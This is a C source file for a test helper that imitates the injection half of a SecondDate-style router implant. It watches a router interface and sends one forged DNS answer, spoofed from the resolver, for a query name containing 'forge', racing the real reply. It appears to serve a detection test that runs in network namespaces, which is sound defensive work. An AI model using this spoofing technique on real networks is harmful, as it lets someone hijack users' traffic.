/* secondsight test injector: the forging half of an implant of the SecondDate kind,
 * for the diff test's router namespace (the test's nftables rules do the altering and
 * the dropping). It watches the router's inside interface (a packet socket) and
 * answers the first DNS query for a name containing "forge" itself, in the resolver's
 * name, through a raw socket, racing the real answer; the query goes on to the real
 * resolver untouched. Stops on SIGTERM or after the given seconds. It only ever runs
 * inside the namespaces the test creates.
 *
 * usage: injector IFACE SECONDS */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static int raw_fd = -1;
static int injected;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static uint16_t get16(const uint8_t *p)
{
    return (uint16_t)(p[0] << 8 | p[1]);
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += get16(p + i);
    if (n & 1)
        sum += (uint32_t)p[n - 1] << 8;
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* The TCP or UDP checksum of the transport segment at ip + ihl. */
static void l4_checksum(uint8_t *ip, size_t len, size_t ihl, int proto, size_t csum_at)
{
    uint8_t *l4 = ip + ihl;
    size_t l4len = len - ihl;
    put16(l4 + csum_at, 0);
    uint32_t sum = sum16(ip + 12, 8, 0) + (uint32_t)proto + (uint32_t)l4len;
    put16(l4 + csum_at, fold(sum16(l4, l4len, sum)));
}

static uint8_t *find(uint8_t *hay, size_t n, const char *needle)
{
    size_t k = strlen(needle);
    for (size_t i = 0; n >= k && i <= n - k; i++)
        if (!memcmp(hay + i, needle, k))
            return hay + i;
    return NULL;
}

/* The resolver's answer, forged: the query turned around with one A record. */
static void forge_answer(const uint8_t *q, size_t len, size_t ihl)
{
    const uint8_t *udp = q + ihl, *dns = udp + 8;
    size_t dnslen = len - ihl - 8;
    if (dnslen < 12 || len > 1400)
        return;
    /* The question ends where its name's terminating zero and type and class end. */
    size_t at = 12;
    while (at < dnslen && dns[at])
        at += (size_t)dns[at] + 1;
    if (at + 5 > dnslen)
        return;
    size_t qend = at + 5;
    uint8_t pkt[1600];
    size_t n = ihl + 8 + qend + 16;
    memset(pkt, 0, n);
    pkt[0] = 0x45;
    put16(pkt + 2, (uint16_t)(20 + 8 + qend + 16));
    put16(pkt + 4, 0x0bad);
    pkt[8] = 64;
    pkt[9] = IPPROTO_UDP;
    memcpy(pkt + 12, q + 16, 4); /* from the resolver */
    memcpy(pkt + 16, q + 12, 4); /* to the client */
    uint8_t *u = pkt + 20, *d = u + 8;
    put16(u, get16(udp + 2));
    put16(u + 2, get16(udp));
    put16(u + 4, (uint16_t)(8 + qend + 16));
    memcpy(d, dns, qend);
    d[2] = 0x81; /* QR, RD */
    d[3] = 0x80; /* RA */
    put16(d + 6, 1);  /* one answer */
    put16(d + 8, 0);
    put16(d + 10, 0);
    uint8_t *a = d + qend;
    put16(a, 0xc00c); /* the question's name */
    put16(a + 2, 1);  /* A */
    put16(a + 4, 1);  /* IN */
    a[6] = 0;
    a[7] = 0;
    put16(a + 8, 60); /* TTL */
    put16(a + 10, 4);
    a[12] = 192, a[13] = 0, a[14] = 2, a[15] = 66;
    put16(pkt + 10, fold(sum16(pkt, 20, 0)));
    l4_checksum(pkt, 20 + 8 + qend + 16, 20, IPPROTO_UDP, 6);
    struct sockaddr_in to = {.sin_family = AF_INET};
    memcpy(&to.sin_addr, pkt + 16, 4);
    if (sendto(raw_fd, pkt, 20 + 8 + qend + 16, 0, (struct sockaddr *)&to, sizeof to) < 0)
        perror("tamperer: sendto");
    else
        injected++;
}

/* A packet seen on the inside interface: the query to answer? */
static void on_packet(const uint8_t *data, size_t n)
{
    if (n < 20 || (data[0] >> 4) != 4 || data[9] != IPPROTO_UDP)
        return;
    size_t ihl = (size_t)(data[0] & 15) * 4;
    if (n < ihl + 8 || get16(data + ihl + 2) != 53 || injected)
        return;
    if (find((uint8_t *)data + ihl + 8, n - ihl - 8, "forge"))
        forge_answer(data, n, ihl);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: injector IFACE SECONDS\n");
        return 2;
    }
    int seconds = atoi(argv[2]);
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    raw_fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    int pfd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
                              .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (raw_fd < 0 || pfd < 0 || !sll.sll_ifindex ||
        bind(pfd, (struct sockaddr *)&sll, sizeof sll) != 0) {
        fprintf(stderr, "injector: cannot open sockets on %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    printf("injector: ready\n");
    fflush(stdout);
    time_t end = time(NULL) + seconds;
    uint8_t buf[65536];
    while (!stop && time(NULL) < end) {
        struct pollfd p = {pfd, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0)
            continue;
        struct sockaddr_ll from;
        socklen_t fl = sizeof from;
        ssize_t r = recvfrom(pfd, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
        if (r > 0 && from.sll_pkttype != PACKET_OUTGOING)
            on_packet(buf, (size_t)r);
    }
    printf("injector: injected %d\n", injected);
    close(pfd);
    close(raw_fd);
    return 0;
}
